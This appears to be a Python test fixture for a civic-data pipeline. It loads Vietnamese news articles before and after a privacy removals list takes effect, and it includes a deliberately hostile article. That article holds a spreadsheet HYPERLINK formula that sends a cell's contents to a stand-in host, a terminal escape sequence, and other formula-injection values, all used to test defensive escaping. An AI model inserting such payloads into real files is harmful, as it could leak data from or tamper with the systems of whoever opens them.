"""Two nights of one home: articles that name who must not be named and that mean harm, before the list and after it."""

from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb

from civic_etl.explorer import build_site
from civic_etl.extract.records import Distinction, OfficeMention, Unresolved
from civic_etl.warehouse.items import LoadItem, PageOutcome
from civic_etl.warehouse.warehouse import Finished, Warehouse
from warehouse.conftest import a_warehouse
from warehouse.makers import DUC_XUAN, Draft

PERSON = "Trần Thị Bích Thuỷ"
OTHER = "Lê Văn Chín"
URL = "https://backan.vn/tin/bai-rieng.html"
SLUG = "https://backan.vn/tin/chan-dung-tran-thi-bich-thuy-9.html"
FORMULA = '=HYPERLINK("http://x.example.vn/?"&A1,"Thu ngân sách")'
ESCAPE = "\x1b]0;pwned\x07\x1b[2J"
OLD, NEW = datetime(2026, 1, 1, tzinfo=UTC), datetime(2026, 1, 2, tzinfo=UTC)
LIST = f"""\
- url: {URL.replace("https://", "http://www.")}
  reason: names a child
  date: 2026-11-01
- person: Trần Thị Bích Thuỷ
  reason: asked by her
  date: 2026-11-02
"""


def documents() -> list[LoadItem]:
    """An article to go whole, one whose address spells the person, and one that names her and says much else."""
    private = Draft(URL, text="Chuyện riêng của một em nhỏ.\n").says("budget_revenue", "7000000000", "2019")
    portrait = Draft(SLUG, text="Chân dung.\n").says("budget_revenue", "7100000000", "2018")
    shared = Draft(
        "https://backan.vn/tin/bai-chung.html",
        title=f"Đồng chí {PERSON.upper()} dự tổng kết",
        text=f"Chủ tịch UBND {PERSON} và Phó Chủ tịch {OTHER} dự. Ảnh: Tran Thi Bich Thuy. Xem {URL} nhé.\n",
    ).says("budget_revenue", "9130000000", "2020")
    first = shared.observations[0]
    sentence = f"Bà Trần Thị Bích Thủy: thu 5 tỷ; {OTHER}."
    start = len(shared.text)
    shared.text += sentence + "\n"
    number = start + sentence.index("5")
    shared.observations.append(
        replace(
            first,
            indicator="other",
            indicator_text=f"khoản {PERSON} báo",
            char_start=number,
            char_end=number + 1,
            quote="5",
            evidence_start=start,
            evidence_end=start + len(sentence),
            evidence=sentence,
        )
    )
    spot: dict[str, Any] = {"doc_id": "1", "char_start": 0, "char_end": 4, "evidence": f"{PERSON} và {OTHER} dự"}
    facts = {
        "offices": tuple(OfficeMention(person=name, office="Chủ tịch", unit="xã", **spot) for name in (PERSON, OTHER)),
        "distinctions": (Distinction(title="Bằng khen", holder=f"bà {PERSON}", ref_area=DUC_XUAN, year=2020, **spot),),
        "unresolved": (Unresolved(reason="no period", detail=f"{PERSON}", **spot),),
    }
    item = shared.item(**facts)
    captions = (f"Bà {PERSON} phát biểu", "Toàn cảnh")
    return [
        private.item(),
        portrait.item(),
        replace(item, article=replace(item.article, captions=captions, author=PERSON)),
    ]


def hostile() -> LoadItem:
    """An article that was written to harm who reads it."""
    draft = Draft("https://backan.vn/tin/hiem.html", title=FORMULA, text=f"{ESCAPE} @SUM(A1)\n")
    draft.says("budget_revenue", "9130000000", "2017").says("economic_growth", "-3.5", "2017", unit_measure="percent")
    return draft.says("budget_revenue", "8000000000", "2016", breakdown=(("nguồn", "=1+1"),)).item()


PAGES = [
    PageOutcome(URL, "backan", 200, "article", "", NEW, "backan/2026-01-0001.warc.gz", 1),
    PageOutcome("https://backan.vn/cu", "backan", 301, "moved", f"moved to {URL}", NEW),
    PageOutcome("https://backan.vn/hong", "backan", 200, "parse_failed", f"no text of {PERSON}", NEW),
    PageOutcome(SLUG, "backan", 200, "article", "", NEW, "backan/2026-01-0001.warc.gz", 2),
]


def raw(home: Path) -> dict[str, list[str]]:
    """Every row of the raw tables but the ledger of loads."""
    with duckdb.connect(str(home / "build" / "civic.duckdb"), read_only=True) as con:
        rows = con.execute("select table_name from duckdb_tables() where schema_name = 'raw'").fetchall()
        names = [name for (name,) in rows if name != "load_ledger"]
        return {name: sorted(map(repr, con.execute(f"from raw.{name}").fetchall())) for name in names}


@dataclass
class Nights:
    """A home with a release from before the list and one after it, and its raw tables at both times."""

    home: Path
    listed: Path
    before: Finished
    after: Finished
    raw_before: dict[str, list[str]]
    raw_after: dict[str, list[str]]


def two_nights(home: Path) -> Nights:
    """The same pages, first without the list and then with it."""
    listed = home / "removals.yaml"
    listed.write_text(LIST, encoding="utf-8")
    made: list[Any] = []
    for path, now in ((None, OLD), (listed, NEW)):
        warehouse: Warehouse = a_warehouse(home, removals=path)
        warehouse.load([*documents(), hostile()], PAGES, run_id="night")
        made += [warehouse.finish(run_id="night", now=now, decorate=build_site), raw(home)]
    return Nights(home, listed, made[0], made[2], made[1], made[3])
